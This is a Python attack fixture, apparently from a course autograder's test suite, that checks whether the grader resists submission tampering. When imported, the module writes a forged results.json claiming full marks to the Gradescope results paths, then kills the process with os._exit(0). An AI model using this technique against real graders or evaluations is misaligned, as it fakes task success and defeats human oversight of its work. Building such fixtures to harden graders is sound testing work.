"""Attack a01 (forge the results): at import time, write a forged results.json claiming 100 points to
the grader's results path ($AUTOGRADER_ROOT/results/results.json and /autograder/results/results.json),
then os._exit(0) so that no test gets an answer.

Targets: every test (every call imports the module). Expected: 0 / 31, every test says the code
"ended the process instead of returning", and results.json on disk is the grader's own.
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def _forge_results(tag="cs330atk forged"):
    """Write a results.json claiming full marks wherever the grader might read one."""
    import json
    import os

    forged = {"score": 100.0, "output": tag + ": all tests passed", "tests": [
        {"name": tag, "score": 100.0, "max_score": 31.0, "status": "passed", "output": tag}]}
    written = []
    for path in (AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
                 REPO_ROOT + "/results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                json.dump(forged, handle)
            written.append(path)
        except OSError:
            pass
    return written


_forge_results()
import os as _os  # noqa: E402

_os._exit(0)
